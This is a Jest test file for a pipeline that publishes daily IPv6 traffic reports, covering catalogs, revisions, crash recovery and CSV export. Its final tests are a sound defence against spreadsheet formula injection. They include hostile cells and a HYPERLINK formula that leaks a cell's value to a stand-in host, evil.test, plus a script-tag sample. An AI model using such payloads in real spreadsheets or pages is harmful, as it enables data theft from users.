import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import { createDirectoryStore } from '../../src/adapters/directory.ts';
import { catalogSchema, latestSchema } from '../../src/contracts/catalog.ts';
import { inputsSchema, manifestSchema } from '../../src/contracts/manifest.ts';
import type { Archive } from '../../src/ports.ts';
import { sha256 } from '../../src/stages/documents.ts';
import { publish } from '../../src/stages/publish.ts';
import { refreshIndex } from '../../src/stages/publish-catalog.ts';
import { toCsv } from '../../src/stages/publish-csv.ts';
import { verifyArchive } from '../../src/stages/verify.ts';
import { MemoryStore } from '../support/memory-store.ts';
import { prepareRun, publishRun, type RunOptions, readFixture, renderIndex, versions } from './archive-run.ts';

const folder = 'reports/daily/2026/11/22';
let base: string;
let made = 0;

beforeAll(async () => {
  base = await mkdtemp(join(tmpdir(), 'ipv6-report-publish-'));
});
afterAll(async () => {
  await rm(base, { recursive: true, force: true });
});

const json = async (archive: Archive, key: string) => JSON.parse(Buffer.from((await archive.get(key)).body).toString());
const catalogOf = async (archive: Archive) => catalogSchema.parse(await json(archive, 'catalog.json'));
const latestOf = async (archive: Archive) => latestSchema.parse(await json(archive, 'reports/daily/latest.json'));

async function contentOf(archive: Archive): Promise<Record<string, string>> {
  const content: Record<string, string> = {};
  for await (const { key } of archive.list('')) content[key] = sha256((await archive.get(key)).body);
  return content;
}

/** Counts the writes of an archive and lets the nth fail as a full disk, or any other fault, would. */
function failingAt(archive: Archive, nth: number): Archive {
  let writes = 0;
  const guarded = <A extends unknown[], T>(work: (...args: A) => Promise<T>) => {
    return async (...args: A) => {
      writes += 1;
      if (writes === nth) throw new Error(`write ${nth} failed`);
      return work(...args);
    };
  };
  return { ...archive, put: guarded(archive.put), publishFolder: guarded(archive.publishFolder) };
}

const archives: Record<string, () => Archive> = {
  directory: () => {
    made += 1;
    return createDirectoryStore(join(base, String(made)));
  },
  memory: () => {
    const store = new MemoryStore();
    return {
      get: (key) => store.get(key),
      open: (key) => store.open(key),
      put: (key, body, options) => store.put(key, body, options),
      list: (prefix) => store.list(prefix),
      delete: (key) => store.delete(key),
      locate: (key) => store.locate(key),
      write: (key, body) => store.write(key, body),
      publishFolder: (key, revision, files) => store.publishFolder(key, revision, files),
    };
  },
};

describe.each(Object.keys(archives))('in a %s archive', (kind) => {
  const open = () => archives[kind]?.() ?? new MemoryStore();

  test('a report is published with its folder, catalog row, page and pointer', async () => {
    const archive = open();
    const published = await publishRun(archive);
    expect(published).toEqual({
      folder,
      revision: 1,
      changed: true,
      files: {
        html: `${folder}/index.html`,
        pdf: `${folder}/report.pdf`,
        json: `${folder}/report.json`,
        manifest: `${folder}/manifest.json`,
      },
    });
    const keys: string[] = [];
    for await (const { key } of archive.list('')) keys.push(key);
    const names = [
      ...['address-types', 'adoption', 'blocklist', 'interface-identifiers', 'interfaces', 'networks'],
      ...['policy-holes', 'prefixes', 'rejected', 'security-events', 'skipped-files', 'target-groups'],
      ...['traffic-hourly'],
    ].map((name) => `csv/${name}.csv`);
    const lists = ['waf-addresses', 'waf-ip-set'].flatMap((list) => [`${list}-ipv4.json`, `${list}-ipv6.json`]);
    const made = ['index.html', 'inputs.json', 'manifest.json', 'report.json', 'report.pdf'];
    const files = ['blocklist.json', 'blocklist.txt', ...names, ...made, ...lists];
    expect(keys).toEqual([
      'catalog.json',
      'index.html',
      ...files.map((file) => `${folder}.r1/${file}`),
      ...files.map((file) => `${folder}/${file}`),
      'reports/daily/latest.json',
      'search.json',
    ]);
    const catalog = await catalogOf(archive);
    const { traffic, clients } = readFixture();
    expect(catalog.reports).toHaveLength(1);
    expect(catalog.reports[0]).toMatchObject({
      folder,
      revision: 1,
      status: 'partial',
      requests: traffic.requests.total,
      ipv6RequestShare: traffic.requests.ipv6Share,
      ipv6Clients: clients.ipv6.addresses,
      skippedFiles: 4,
      missingHours: 2,
      files: { pdf: 'report.pdf', csv: names },
    });
    expect(await latestOf(archive)).toMatchObject({ folder, revision: 1 });
    expect(Buffer.from((await archive.get('index.html')).body).toString()).toBe(`<html>${folder} r1</html>`);
    expect((await verifyArchive(archive)).problems).toEqual([]);
  });

  test('the manifest has every file, the inputs, the statements and the versions', async () => {
    const archive = open();
    await publishRun(archive);
    const manifest = manifestSchema.parse(await json(archive, `${folder}/manifest.json`));
    for (const { path, bytes, sha256: hash } of manifest.files) {
      const { body } = await archive.get(`${folder}/${path}`);
      expect({ path, bytes, hash }).toEqual({ path, bytes: body.byteLength, hash: sha256(body) });
    }
    expect(manifest.inputs).toMatchObject({ files: 2, bytes: 42 });
    expect(inputsSchema.parse(await json(archive, `${folder}/inputs.json`)).files).toEqual([
      { logs: 'flows', key: 'a.log.gz', bytes: 12 },
      { logs: 'requests', key: 'b.log.gz', bytes: 30 },
    ]);
    expect(manifest.scannedBytes).toBe(1020);
    expect(manifest.statements.map(({ id, executionId }) => [id, executionId])).toEqual([
      ['requests', 'run-1-requests'],
      ['clients', 'run-1-clients'],
    ]);
    expect(manifest.versions).toEqual({ ...versions, schema: readFixture().schemaVersion });
    expect((await catalogOf(archive)).reports).toEqual([manifest.report]);
  });

  test('the same report again writes nothing, whenever it was made', async () => {
    const archive = open();
    await publishRun(archive);
    const before = await contentOf(archive);
    const again = await publishRun(failingAt(archive, 1), {
      run: 'run-2',
      revision: 2,
      change: ({ report }) => {
        report.generatedAt = '2026-11-24T05:00:00Z';
      },
    });
    expect(again).toMatchObject({ revision: 1, changed: false, files: { pdf: `${folder}/report.pdf` } });
    expect(await contentOf(archive)).toEqual(before);
  });

  test('a report that was published without a PDF is published again with one', async () => {
    const archive = open();
    await publishRun(archive, { pdf: null });
    const again = await publishRun(archive, { run: 'run-2', revision: 2 });
    expect(again).toMatchObject({ revision: 2, changed: true, files: { pdf: `${folder}/report.pdf` } });
    expect(await publishRun(archive, { run: 'run-3', revision: 2, pdf: null })).toMatchObject({ changed: false });
  });

  test('other figures become revision 2, and revision 1 is kept', async () => {
    const archive = open();
    await publishRun(archive);
    const before = await contentOf(archive);
    const second = await publishRun(archive, {
      run: 'run-2',
      revision: 2,
      pdf: null,
      change: (report) => {
        report.quality.rows.outsidePeriod += 1;
      },
    });
    expect(second).toMatchObject({ revision: 2, changed: true, files: { pdf: null } });
    const after = await contentOf(archive);
    for (const key of Object.keys(before).filter((key) => key.startsWith(`${folder}.r1/`))) {
      expect(after[key]).toBe(before[key]);
    }
    expect((await catalogOf(archive)).reports).toMatchObject([{ revision: 2, files: { pdf: null } }]);
    expect(await latestOf(archive)).toMatchObject({ revision: 2 });
    expect((await verifyArchive(archive)).problems).toEqual([]);
  });

  test('an older period is entered in its place and the pointer stays', async () => {
    const archive = open();
    await publishRun(archive, { day: 23 });
    await publishRun(archive, { day: 21 });
    await publishRun(archive, { day: 22 });
    expect((await catalogOf(archive)).reports.map((row) => row.folder.slice(-2))).toEqual(['21', '22', '23']);
    expect(await latestOf(archive)).toMatchObject({ folder: 'reports/daily/2026/11/23' });
    expect((await verifyArchive(archive)).problems).toEqual([]);
  });

  test.each([1, 2, 3, 4])('a writer that stops at write %i is completed by the next run', async (nth) => {
    const archive = open();
    await publishRun(archive, { day: 20 });
    await expect(publishRun(failingAt(archive, nth), { day: 21 })).rejects.toThrow(`write ${nth} failed`);
    expect(await latestOf(archive)).toMatchObject({ folder: 'reports/daily/2026/11/20' });
    const next = await publishRun(archive, { run: 'run-2', day: 21 });
    // Once the row is in the catalog, the report was out.
    expect(next).toMatchObject({ revision: 1, changed: nth <= 2 });
    expect(await latestOf(archive)).toMatchObject({ folder: 'reports/daily/2026/11/21' });
    expect((await verifyArchive(archive)).problems).toEqual([]);
  });

  test('many runs of different days at once lose no row, page or pointer', async () => {
    const archive = open();
    const days = [3, 9, 5, 12, 7, 1];
    const all = await Promise.all(days.map((day) => publishRun(archive, { day, run: `run-${day}` })));
    expect(all.every((published) => published.changed)).toBe(true);
    expect((await catalogOf(archive)).reports.map((row) => Number(row.folder.slice(-2)))).toEqual([1, 3, 5, 7, 9, 12]);
    expect(await latestOf(archive)).toMatchObject({ folder: 'reports/daily/2026/11/12' });
    expect(Buffer.from((await archive.get('index.html')).body).toString()).toBe(
      await renderIndex(await catalogOf(archive)),
    );
    expect((await verifyArchive(archive)).problems).toEqual([]);
  });

  test('a lost or damaged catalog is made again from the manifests', async () => {
    const archive = open();
    await publishRun(archive, { day: 20 });
    await publishRun(archive, { day: 21 });
    const before = await catalogOf(archive);
    await archive.put('catalog.json', '{"schemaVersion": "1.0", "reports": [{');
    expect(await publishRun(archive, { day: 21, run: 'again' })).toMatchObject({ changed: false });
    expect(await catalogOf(archive)).toEqual(before);
    await archive.delete('catalog.json');
    await publishRun(archive, { day: 22 });
    expect((await catalogOf(archive)).reports.map((row) => row.folder.slice(-2))).toEqual(['20', '21', '22']);
  });

  test('a catalog of a later version is left alone', async () => {
    const archive = open();
    await archive.put('catalog.json', '{"schemaVersion": "7.0", "rows": []}');
    await expect(publishRun(archive)).rejects.toMatchObject({
      name: 'CatalogVersionUnsupported',
      message: expect.stringContaining('schema version 7.0'),
    });
    expect(await json(archive, 'catalog.json')).toEqual({ schemaVersion: '7.0', rows: [] });
  });
});

test('a page made from an older catalog never replaces a newer one', async () => {
  const archive = archives['memory']?.() ?? new MemoryStore();
  await publishRun(archive, { day: 20 });
  let overtaken = false;
  const slow: Archive = {
    ...archive,
    get: async (key) => {
      const answer = await archive.get(key);
      if (key === 'catalog.json' && !overtaken) {
        overtaken = true;
        await publishRun(archive, { day: 21 });
      }
      return answer;
    },
  };
  await refreshIndex(slow, renderIndex);
  expect(overtaken).toBe(true);
  const page = Buffer.from((await archive.get('index.html')).body).toString();
  expect(page).toBe(await renderIndex(await catalogOf(archive)));
  expect(page).toContain('2026/11/21');
});

test('a folder of which only a part was copied when its writer died is published again', async () => {
  const archive = new MemoryStore();
  await publishRun(archive);
  const late: RunOptions = {
    run: 'run-2',
    revision: 2,
    change: (report) => {
      report.quality.files.read += 1;
    },
  };
  const { work, event } = await prepareRun(late);
  await archive.put(`${folder}/report.json`, (await work.get(event.report)).body);
  expect(await publishRun(archive, late)).toMatchObject({ revision: 2, changed: true });
  expect((await verifyArchive(archive)).problems).toEqual([]);
});

test('two runs of one day with the same figures: both succeed, one has published', async () => {
  const archive = archives['directory']?.() ?? new MemoryStore();
  const both = await Promise.all(['one', 'two'].map((run) => publishRun(archive, { run })));
  expect(both.map((published) => published.revision)).toEqual([1, 1]);
  expect((await verifyArchive(archive)).problems).toEqual([]);
});

test('two runs of one day with other figures: one wins, the other says what to do', async () => {
  const archive = archives['directory']?.() ?? new MemoryStore();
  const late = (read: number) => ({
    run: `run-${read}`,
    change: (report: ReturnType<typeof readFixture>) => {
      report.quality.files.read = read;
    },
  });
  const both = await Promise.allSettled([publishRun(archive, late(1)), publishRun(archive, late(2))]);
  expect(both.map((result) => result.status).sort()).toEqual(['fulfilled', 'rejected']);
  const lost = both.find((result) => result.status === 'rejected');
  expect(lost).toMatchObject({
    reason: { name: 'RevisionTaken', message: expect.stringContaining('start this run again') },
  });
  expect((await verifyArchive(archive)).problems).toEqual([]);
});

test('a report that does not hold to its schema is refused before anything is written', async () => {
  const archive = new MemoryStore();
  const { work, event } = await prepareRun();
  await work.put(event.report, '{"schemaVersion": "1.0"}');
  await expect(publish(event, { work, archive, renderIndex, versions })).rejects.toMatchObject({
    name: 'DocumentInvalid',
    message: expect.stringContaining('memory://work/runs/run-1/report.json'),
  });
  expect(archive.writes).toEqual([]);
});

test('the lists hold the figures of report.json', async () => {
  const archive = new MemoryStore();
  await publishRun(archive);
  const list = (name: string): Record<string, string>[] =>
    parse(archive.text(`${folder}/csv/${name}.csv`), { columns: true });
  const report = readFixture();
  const sum = (rows: Record<string, string>[], column: string) =>
    rows.reduce((total, row) => total + Number(row[column]), 0);

  const hourly = list('traffic-hourly');
  expect(hourly).toHaveLength(24);
  expect(sum(hourly, 'ipv6_requests')).toBe(report.traffic.requests.ipv6);
  expect(sum(hourly, 'ipv4_flow_bytes')).toBe(report.traffic.flowBytes.ipv4);
  expect(sum(hourly, 'ipv6_packets')).toBe(report.traffic.packets.ipv6);
  const prefixes = list('prefixes');
  expect(sum(prefixes, 'requests')).toBe(report.traffic.requests.ipv6);
  expect(prefixes.at(-1)).toMatchObject({ prefix: 'other', share: String(report.prefixes.rest.share) });
  expect(sum(list('address-types'), 'addresses')).toBe(
    report.addressTypes.reduce((total, row) => total + row.addresses, 0),
  );
  const adoption = list('adoption');
  for (const dimension of ['load_balancer', 'host', 'target_group', 'type', 'device']) {
    const rows = adoption.filter((row) => row['dimension'] === dimension);
    expect(sum(rows, 'ipv6_requests')).toBe(report.traffic.requests.ipv6);
  }
  const networks = list('networks');
  for (const kind of ['country', 'asn']) {
    const rows = networks.filter((row) => row['kind'] === kind);
    expect(sum(rows, 'ipv4_requests')).toBe(report.traffic.requests.ipv4);
    expect(sum(rows, 'ipv6_addresses')).toBe(report.clients.ipv6.addresses);
  }
  expect(list('policy-holes')[0]).toMatchObject({ port: '5432', open_over: 'ipv6', accepted: '68', rejected: '121' });
  expect(list('interface-identifiers')[0]).toMatchObject({ class: report.interfaceIdentifiers[0]?.class });
  const [group] = report.performance.targetGroups;
  expect(list('target-groups')[0]).toMatchObject({
    target_group: group?.targetGroup,
    ipv4_p50_seconds: String(group?.ipv4.p50),
    ipv6_elb_5xx_rate: String(group?.ipv6.elb5xxRate),
  });
  expect(sum(list('interfaces'), 'ipv6_flows')).toBe(report.traffic.flows.ipv6);
  expect(list('skipped-files').map((row) => row['reason'])).toEqual(['damaged', 'test-file', 'nlb-log', 'no-log']);
  expect(list('rejected')[1]).toMatchObject({
    sample: '<script>alert("not a log line")</script>',
    first_line: '1',
  });
});

test('a cell that a spreadsheet would run gets an apostrophe; numbers keep their sign', () => {
  const hostile = ['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx', '＝1', 'a=b', '"=1', ''];
  const text = toCsv(
    ['text', 'number'],
    hostile.map((cell) => [cell, -1.5]),
  );
  const rows: string[][] = parse(text, { from_line: 2, record_delimiter: '\r\n' });
  expect(rows.map(([cell]) => cell)).toEqual([
    ...["'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\tx", "'\rx", "'＝1"],
    ...['a=b', '"=1', ''],
  ]);
  expect(rows.every(([, number]) => number === '-1.5')).toBe(true);
});

test('a hostile log line stays one guarded cell', async () => {
  const archive = new MemoryStore();
  const sample = '=HYPERLINK("http://evil.test?x="&A1,"click")\r\n,second cell';
  await publishRun(archive, {
    change: (report) => {
      for (const file of report.quality.rejectedFiles) file.sample = sample;
    },
  });
  const rows: Record<string, string>[] = parse(archive.text(`${folder}/csv/rejected.csv`), { columns: true });
  expect(new Set(rows.map((row) => row['sample']))).toEqual(new Set([`'${sample}`]));
});
